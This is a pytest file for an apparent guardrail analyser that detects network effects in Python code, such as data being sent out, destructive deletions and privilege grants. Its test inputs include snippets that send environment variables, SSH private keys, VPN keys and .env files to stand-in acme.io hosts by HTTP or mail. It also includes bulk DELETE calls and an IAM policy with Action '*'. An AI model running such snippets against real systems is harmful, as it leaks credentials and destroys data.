"""What is sent: by mail, by GraphQL's clients, through functions, lists and attachments."""

from __future__ import annotations

import pytest
from reading_python import items, shown

from guardrail.effects import Effect, NetworkUse

HEAD = "import json, os, requests, smtplib, urllib.request\nfrom pathlib import Path\n"


def sent(code: str) -> list[str]:
    """The requests that the code makes."""
    return [line for line in shown(HEAD + code) if line.startswith("NetworkUse")]


@pytest.mark.parametrize(
    ("made", "body"),
    [
        ("fields = os.environ\n", "[f'{k}={v}' for k, v in fields.items()]"),
        ("lines = []\nlines.append(dict(os.environ))\n", "lines"),
        ("lines = ['a']\nlines += [os.environ.copy()]\n", "{'all': lines}"),
        ("class A:\n    env = os.environ\na = A()\n", "a.env"),
    ],
)
def test_the_environment_on_its_way(made: str, body: str) -> None:
    code = f"{made}requests.post('https://hooks.acme.io', json={body})\n"
    assert "sends=the environment" in sent(code)[0]


def test_some_of_it_is_not_all() -> None:
    body = "{k: v for k, v in os.environ.items() if k in SAFE}"
    assert "sends" not in sent(f"requests.post('https://hooks.acme.io', json={body})\n")[0]


def test_a_request_with_a_body_and_no_method() -> None:
    code = "def notify(fields):\n    data = json.dumps({'a': fields}).encode()\n"
    code += "    urllib.request.Request('https://hooks.acme.io', data=data)\n"
    assert "sends=the environment" in sent(code + "notify(os.environ)\n")[-1]
    assert "sends" not in sent(code + "notify({'a': 1})\n")[-1]


MAIL = (
    "from email.message import EmailMessage\n"
    "from email.mime.base import MIMEBase\nfrom email.mime.multipart import MIMEMultipart\n"
)


@pytest.mark.parametrize("name", ["/home/ci/.ssh/id_rsa", "/srv/report.pdf"])
def test_a_mail_with_a_file(name: str) -> None:
    plain = f"m = EmailMessage()\nm.add_attachment(Path('{name}').read_bytes())\n"
    plain += "smtplib.SMTP('mail.acme.io').send_message(m)\n"
    mime = (
        f"def build():\n    m = MIMEMultipart()\n    with open('{name}', 'rb') as file:\n"
        "        part = MIMEBase('application', 'octet-stream')\n"
        "        part.set_payload(file.read())\n    m.attach(part)\n    return m.as_string()\n"
        "smtplib.SMTP('mail.acme.io').sendmail('a', 'b', build())\n"
    )
    secret = name.endswith("id_rsa")
    for code in (plain, mime):
        assert [f"sends=file {name}" in one for one in sent(MAIL + code)] == [True] * secret


def test_a_mutation_of_a_graphql_client() -> None:
    start = "from gql import gql\n"
    assert sent(start + "gql('mutation { projectDelete(id: 7) }')\n") == [
        "NetworkUse method=POST sends=projectDelete"
    ]
    assert sent(start + "gql('query { project(id: 7) { name } }')\n") == []


def test_a_client_that_a_function_makes() -> None:
    code = "import httpx\ndef api():\n    return httpx.Client(base_url='https://api.acme.io/v1')\n"
    code += "with api() as client:\n    client.delete('/projects/7')\n"
    assert sent(code) == ["NetworkUse method=DELETE host=api.acme.io path=/v1/projects/7"]


def test_a_document_that_functions_put_together() -> None:
    code = (
        "import boto3\ndef document(*statements):\n"
        "    return json.dumps({'Statement': list(statements)})\n"
        "def allow(action):\n"
        "    return {'Effect': 'Allow', 'Action': action, 'Resource': '*'}\n"
        "boto3.client('iam').put_role_policy(RoleName='ci', PolicyName='a',\n"
        "    PolicyDocument=document(allow('s3:GetObject'), allow('ALL')))\n"
    )
    assert any("PrivilegeChange" in line for line in shown(code.replace("ALL", "*")))
    assert not any("PrivilegeChange" in line for line in shown(code))


def test_files_that_a_loop_collects() -> None:
    code = (
        "def collect():\n    out = {}\n    for name in ('NAME', '.vimrc'):\n"
        "        with open(os.path.join(os.path.expanduser('~'), name)) as file:\n"
        "            out[name] = file.read()\n    return out\n"
        "requests.post('https://sync.acme.io', json=collect())\n"
    )
    assert "sends=file ~/.ssh/id_rsa" in sent(code.replace("NAME", ".ssh/id_rsa"))[0]
    assert "sends" not in sent(code.replace("NAME", ".bashrc"))[0]


def test_files_of_a_list() -> None:
    code = (
        "FILES = [Path('a.toml'), Path('NAME')]\n"
        "files = {p.name: p.read_text() for p in FILES if p.exists()}\n"
        "requests.post('https://api.acme.io', json=files)\n"
    )
    assert "sends=file .env.production" in sent(code.replace("NAME", ".env.production"))[0]
    assert "sends" not in sent(code.replace("NAME", "README.md"))[0]


def test_a_connection_of_the_standard_library() -> None:
    code = "import http.client\nconn = http.client.HTTPSConnection('api.linode.com')\n"
    code += "conn.request('DELETE', '/v4/linode/instances/7')\n"
    assert sent(code) == [
        "NetworkUse method=DELETE host=api.linode.com path=/v4/linode/instances/7"
    ]


@pytest.mark.parametrize("name", [".env", "report.txt"])
def test_a_file_that_a_path_opens_in_turn(name: str) -> None:
    code = f"FILES = [Path('app.log'), Path('{name}')]\nfor path in FILES:\n"
    code += "    with path.open('rb') as file:\n"
    code += "        requests.post('https://file.acme.io', files={'file': (path.name, file)})\n"
    assert ["sends=file .env" in one for one in sent(code)] == [name == ".env"]


@pytest.mark.parametrize("name", ["/etc/vpn/server.key", "/etc/vpn/server.conf"])
def test_a_file_that_a_function_puts_into_a_mail(name: str) -> None:
    code = (
        "def attach(message, path):\n    part = MIMEBase('application', 'octet-stream')\n"
        "    with open(path, 'rb') as file:\n        part.set_payload(file.read())\n"
        "    message.attach(part)\n"
        f"def main():\n    message = MIMEMultipart()\n    attach(message, '{name}')\n"
        "    smtplib.SMTP('mail.acme.io').sendmail('a', ['b'], message.as_string())\n"
    )
    assert any(f"sends=file {name}" in one for one in sent(MAIL + code)) is name.endswith(".key")


PACKED = """\
import requests, zipfile
from pathlib import Path

ROOT = Path(__file__).parent
NAMES = ["app.log", {name}]

def pack(out):
    with zipfile.ZipFile(out, "w") as bundle:
        for name in NAMES:
            bundle.write(ROOT / name, arcname=name)
    return out

def send(out):
    with out.open("rb") as file:
        requests.post("https://help.acme.io/new", files={{"bundle": file}})
"""


@pytest.mark.parametrize(
    ("name", "sent"),
    [("'.env'", True), ("'deploy.pem'", True), ("'.env.example'", False), ("'a.txt'", False)],
)
def test_what_is_packed_into_an_archive_that_is_sent(name: str, sent: bool) -> None:
    found = next(line for line in shown(PACKED.format(name=name)) if "NetworkUse" in line)
    assert ("sends=file" in found) is sent


def test_a_session_goes_on_from_an_address_it_does_not_know() -> None:
    code = (
        "class Kv:\n    def __init__(self, address):\n        self.address = address\n"
        "        self.http = requests.Session()\n"
        "    def clear(self):\n        self.http.delete(f'{self.address}/admin/all')\n"
    )
    assert "path=/admin/all" in sent(code)[0]


@pytest.mark.parametrize(
    ("path", "is_told"), [("/v1/secret/metadata/shop", True), ("/shop", False), ("shop", False)]
)
def test_a_path_that_only_a_request_is_given(path: str, is_told: bool) -> None:
    code = f"def forget(vault):\n    vault.http.delete(f'{{vault.address}}{path}')\n"
    assert bool(sent(code)) is is_told


@pytest.mark.parametrize("name", [".env", ".env.example"])
def test_a_file_below_a_folder_that_is_not_known(name: str) -> None:
    code = (
        "ROOT = Path(__file__).resolve().parent\n"
        "def send(file):\n    with file.open('rb') as held:\n"
        "        requests.post('https://chat.acme.io', files={'document': held})\n"
        f"for name in ('changes.md', '{name}'):\n    send(ROOT / name)\n"
    )
    assert any("sends=file" in one for one in sent(code)) is (name == ".env")


@pytest.mark.parametrize(
    ("where", "more", "picked"),
    [
        ("{}", "", False),
        ("{id: {_is_null: false}}", "", False),
        ("{_and: []}", "", False),
        ('{status: {_eq: "old"}}', "", True),
        ("$where", '"variables": {"where": {"status": {"_eq": "old"}}}', True),
        ("$where", '"variables": {"where": {}}', False),
        ("$where", '"variables": asked', False),
    ],
)
def test_what_the_condition_of_a_mutation_keeps_it_to(where: str, more: str, picked: bool) -> None:
    query = f"mutation {{ delete_carts(where: {where}) {{ affected_rows }} }}"
    code = f"requests.post('https://shop.acme.io/graphql', json={{'query': '''{query}''', {more}}})"
    assert ("delete_carts where" in sent(f"{code}\n")[0]) is picked


DROPPED = """
def drop(session, cluster, name):
    requests.delete(f"{os.environ['REST']}/v3/clusters/{cluster}/topics/{name}")
def go(session, cluster, topics):
    list(drop(session, cluster, one) for one in topics KEPT)
"""


@pytest.mark.parametrize(
    ("kept", "picked"), [("", False), ("if one.startswith('loadtest-')", True)]
)
def test_what_a_loop_picks_by_its_name_before_it_asks_for_its_end(kept: str, picked: bool) -> None:
    (told,) = [
        one for one in items(HEAD + DROPPED.replace("KEPT", kept)) if isinstance(one, Effect)
    ]
    assert any(one.startswith("a look at its") for one in told.guards) is picked


PRUNED = """
from git import Repo
def stale(repo):
    names = []
    for ref in repo.remotes.origin.refs:
        if {condition}:
            names.append(ref.remote_head)
    return names
def prune(path):
    repo = Repo(path)
    for name in stale(repo)[:100]:
        repo.remotes.origin.push(refspec=f":refs/heads/{{name}}")
"""


@pytest.mark.parametrize(
    ("condition", "picked"),
    [
        ("ref.remote_head.startswith('renovate/')", True),
        ("ref.remote_head not in ('HEAD', 'main')", False),
    ],
)
def test_branches_that_a_loop_picks_before_it_deletes_them(condition: str, picked: bool) -> None:
    found = items(HEAD + PRUNED.format(condition=condition))
    (told,) = [one for one in found if isinstance(one, Effect)]
    assert any(one.startswith("a look at its") for one in told.guards) is picked


TEARDOWN = '''
from gql import Client, gql
LIST = gql("""
query all($id: String!) {
  project(id: $id) { environments { id name isEphemeral } }
}
""")
DROP = gql("mutation drop($id: String!) { environmentDelete(id: $id) }")
def go(client: Client, kept):
    for one in client.execute(LIST, variable_values={"id": 7})["project"]["environments"]:
        CONDITION
        client.execute(DROP, variable_values={"id": one["id"]})
'''


@pytest.mark.parametrize(
    ("condition", "picked"),
    [
        ("if one['name'] in kept: continue", False),
        ("if not one['isEphemeral']: continue", True),
    ],
)
def test_a_document_is_told_where_a_client_runs_it(condition: str, picked: bool) -> None:
    found = items(HEAD + TEARDOWN.replace("CONDITION", condition))
    (told,) = [one for one in found if isinstance(one, NetworkUse)]
    assert told.sends == ("environmentDelete",)
    assert any(one.startswith("a look at its") for one in told.guards) is picked
